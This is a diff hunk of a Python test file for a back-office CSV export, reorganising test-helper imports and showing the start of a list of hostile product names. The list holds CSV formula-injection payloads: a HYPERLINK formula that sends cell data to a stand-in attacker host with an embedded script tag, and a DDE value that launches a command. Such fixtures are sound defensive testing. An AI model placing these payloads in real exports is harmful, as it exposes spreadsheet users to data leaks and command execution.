@@ -14,9 +14,8 @@ from backoffice.db import session_scope
 from backoffice.services import stock
 from backoffice.transfer.csv_out import csv_text
 
-from .conftest import sign_in
-from .factories import make_user
-from .sales import make_product
+from .support.factories import make_product, make_user
+from .support.signin import sign_in
 
 ROOT = Path(__file__).resolve().parents[1]
 NAMES = ['=HYPERLINK("http://evil.example/?q="&A1,"Open: <script>alert(1)</script>")', '+cmd|" /C calc"!A0',
